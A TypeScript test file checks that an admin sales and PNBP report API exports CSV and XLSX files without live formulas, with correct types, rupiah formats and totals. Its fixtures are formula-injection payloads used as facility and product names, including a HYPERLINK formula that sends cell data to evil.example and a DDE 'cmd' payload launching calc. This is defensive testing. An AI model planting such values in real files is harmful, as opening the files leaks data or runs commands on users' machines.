import ExcelJS from 'exceljs';
import request from 'supertest';
import type { Facility } from '../src/facilities/facility.entity';
import type { PnbpReportView, SalesReportView } from '../src/impact/report.views';
import { makeProduct } from './support/catalog-factories';
import { parseCsv, startsLikeFormula } from './support/csv-parse';
import { makeFacility, signedInAs } from './support/factories';
import { placeOrder } from './support/order-factories';
import { startTestApp, TestApp } from './support/test-app';

const REPORTS = '/api/v1/admin/reports';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const MEASURES = ['orders', 'items', 'gross', 'refunds', 'cost', 'profit', 'premi', 'pnbp', 'capital'];
const MONEY = ['gross', 'refunds', 'cost', 'profit', 'premi', 'pnbp', 'capital'];

/** Names an admin could type; each is a formula somewhere if a file lets it be. */
const HOSTILE_FACILITY = 'abc;=HYPERLINK("http://evil.example/?x="&A1,"Klik")';
const HOSTILE_PRODUCTS = ['=HYPERLINK("http://evil.example","Batik")', 'Tas;@SUM(1+1)*cmd|\' /C calc\'!A0', 'Kain, -2+3;+1', 'Tikar\n=1+1'];

function binary(res: request.Response, done: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}

async function readWorkbook(body: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

function allCells(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => cells.push(cell)));
  return cells;
}

describe('report downloads (CSV and XLSX) with hostile names', () => {
  let t: TestApp;
  let superadmin: { bearer: string };
  let facility: Facility;
  const month = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Jakarta' }).format(new Date()).slice(0, 7);
  const period = { from: '2026-01-01', to: '2027-12-31' };

  const download = (path: string, query: Record<string, string>, accept: string): request.Test =>
    request(t.http).get(`${REPORTS}/${path}`).query(query).set('Authorization', superadmin.bearer).set('Accept', accept).buffer(true).parse(binary);

  beforeAll(async () => {
    t = await startTestApp();
    superadmin = await signedInAs(t.http, t.dataSource, 'SUPERADMIN');
    facility = await makeFacility(t.dataSource, { name: HOSTILE_FACILITY, pickupAvailable: true });
    for (const name of HOSTILE_PRODUCTS) {
      const product = await makeProduct(t.dataSource, facility, { name, price: 45_000, unitCost: 12_345, stock: 10 });
      const order = await placeOrder(t.http, [{ product, quantity: 2 }], { method: 'PICKUP' });
      await request(t.http).post(`/api/v1/admin/orders/${order.id}/confirm-payment`).set('Authorization', superadmin.bearer).expect(200);
    }
  });
  afterAll(() => t.close());

  it('writes a CSV in which no cell starts a formula, read with "," or with ";" (Excel in the Indonesian locale)', async () => {
    for (const [path, query] of [
      ['sales', { ...period, facilityId: facility.id, groupBy: 'facility,product,month' }],
      ['pnbp', { facilityId: facility.id, month }],
    ] as const) {
      const response = await download(path, query, 'text/csv').expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      const text = (response.body as Buffer).toString('utf8');
      for (const separator of [',', ';'] as const) {
        const cells = parseCsv(text, separator).flat();
        expect({ path, separator, formulas: cells.filter(startsLikeFormula) }).toEqual({ path, separator, formulas: [] });
      }
      // Read as written (","), every name is there, only marked as text.
      const names = parseCsv(text, ',').flat().map((cell) => cell.replace(/'/g, ''));
      for (const name of [HOSTILE_FACILITY, ...HOSTILE_PRODUCTS]) expect(names).toContain(name.replace(/'/g, ''));
    }
  });

  it('offers the sales report as XLSX: header, typed cells, rupiah format, months as dates, a TOTAL row, no formulas', async () => {
    const query = { ...period, facilityId: facility.id, groupBy: 'facility,product,month' };
    const json = (await request(t.http).get(`${REPORTS}/sales`).query(query).set('Authorization', superadmin.bearer).expect(200)).body as SalesReportView;
    const response = await download('sales', query, XLSX).expect(200);
    expect(response.headers['content-type']).toBe(XLSX);
    expect(response.headers['content-disposition']).toBe('attachment; filename="etalase-sales-2026-01-01-2027-12-31.xlsx"');

    const workbook = await readWorkbook(response.body as Buffer);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Sales', 'About']);
    for (const sheet of workbook.worksheets) {
      expect({ sheet: sheet.name, formulas: allCells(sheet).filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined).map((cell) => cell.address) }).toEqual({
        sheet: sheet.name,
        formulas: [],
      });
    }
    const sales = workbook.getWorksheet('Sales');
    if (!sales) throw new Error('no Sales sheet');
    const header = (sales.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual(['facilityId', 'facilityName', 'productId', 'productName', 'month', ...MEASURES]);
    const column = (key: string): number => header.indexOf(key) + 1;
    expect(sales.rowCount).toBe(1 + json.data.length + 1);

    json.data.forEach((expected, i) => {
      const row = sales.getRow(i + 2);
      for (const key of ['facilityName', 'productName']) {
        const cell = row.getCell(column(key));
        expect({ key, type: cell.type, value: cell.value }).toEqual({ key, type: ExcelJS.ValueType.String, value: expected[key as 'facilityName' | 'productName'] });
      }
      const monthCell = row.getCell(column('month'));
      expect(monthCell.type).toBe(ExcelJS.ValueType.Date);
      expect((monthCell.value as Date).toISOString().slice(0, 7)).toBe(expected.month);
      for (const measure of MEASURES) {
        const cell = row.getCell(column(measure));
        expect({ measure, type: cell.type, value: cell.value }).toEqual({ measure, type: ExcelJS.ValueType.Number, value: expected[measure as keyof SalesReportView['totals']] });
        expect(Number.isInteger(cell.value)).toBe(true);
      }
      for (const measure of MONEY) expect(row.getCell(column(measure)).numFmt).toBe('"Rp"#,##0');
    });
    expect(new Set(json.data.map((row) => row.productName))).toEqual(new Set(HOSTILE_PRODUCTS));

    const totals = sales.getRow(json.data.length + 2);
    expect(totals.getCell(1).value).toBe('TOTAL');
    expect(totals.font?.bold).toBe(true);
    expect(MEASURES.map((m) => totals.getCell(column(m)).value)).toEqual(MEASURES.map((m) => json.totals[m as keyof SalesReportView['totals']]));

    const about = workbook.getWorksheet('About');
    expect(about?.getRow(1).values).toEqual([undefined, 'from', new Date('2026-01-01T00:00:00Z')]);
    expect(about?.getRow(2).values).toEqual([undefined, 'to', new Date('2027-12-31T00:00:00Z')]);
  });

  it('offers the PNBP month as XLSX with its TOTAL line and the amount to deposit', async () => {
    const json = (await request(t.http).get(`${REPORTS}/pnbp`).query({ facilityId: facility.id, month }).set('Authorization', superadmin.bearer).expect(200)).body as PnbpReportView;
    const response = await download('pnbp', { facilityId: facility.id, month }, XLSX).expect(200);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="etalase-pnbp-${month}.xlsx"`);
    const workbook = await readWorkbook(response.body as Buffer);
    for (const sheet of workbook.worksheets) expect(allCells(sheet).filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const pnbp = workbook.getWorksheet('PNBP');
    if (!pnbp) throw new Error('no PNBP sheet');
    expect(pnbp.rowCount).toBe(1 + json.lines.length + 1);
    const facilityCell = pnbp.getRow(2).getCell(1);
    expect({ type: facilityCell.type, value: facilityCell.value }).toEqual({ type: ExcelJS.ValueType.String, value: HOSTILE_FACILITY });
    const totals = pnbp.getRow(json.lines.length + 2);
    expect(totals.getCell(4).value).toBe('TOTAL');
    expect(totals.getCell(5 + MEASURES.indexOf('pnbp') + 1).value).toBe(json.pnbpToDeposit);
    const deposit = pnbp.workbook.getWorksheet('About')?.getRow(4);
    expect(deposit?.values).toEqual([undefined, 'pnbpToDeposit', json.pnbpToDeposit]);
  });

  it('answers JSON to */* and to no Accept header, and by preference when several are acceptable', async () => {
    for (const accept of ['*/*', 'application/json', `application/json, ${XLSX};q=0.5`]) {
      const response = await request(t.http).get(`${REPORTS}/sales`).query(period).set('Authorization', superadmin.bearer).set('Accept', accept).expect(200);
      expect(response.headers['content-type']).toMatch(/^application\/json/);
    }
    const bare = await request(t.http).get(`${REPORTS}/sales`).query(period).set('Authorization', superadmin.bearer).expect(200);
    expect(bare.headers['content-type']).toMatch(/^application\/json/);
    const xlsx = await download('sales', period, `text/csv;q=0.5, ${XLSX}`).expect(200);
    expect(xlsx.headers['content-type']).toBe(XLSX);
  });
});
